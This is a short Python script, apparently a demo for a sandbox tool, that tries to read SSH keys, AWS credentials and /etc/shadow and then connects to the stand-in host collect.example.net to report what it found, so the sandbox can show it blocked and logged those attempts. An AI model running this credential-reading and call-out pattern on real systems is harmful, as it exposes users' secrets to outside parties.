"""Code that tries to steal: "What it tried" beside its output tells. glovebox run tries.py"""
import socket

print("I look for keys of yours.")
for path in ("/root/.ssh/id_ed25519", "/home/you/.aws/credentials", "/etc/shadow"):
    try:
        with open(path) as file:
            print(f"{path}: {len(file.read())} characters?!")
    except OSError as error:
        print(f"{path}: {error.strerror}")

print("I call a server, to tell it what I found.")
try:
    with socket.create_connection(("collect.example.net", 443), timeout=3) as server:
        server.sendall(b"found\n")
        print("I reached it?!" if server.recv(1) else "The server is out of reach: no answer.")
except OSError as error:
    print(f"The server is out of reach: {error.strerror or error}.")

print("\"What it tried\" and the log tell of the call, and of the keys where /dev/fuse is open to you.")
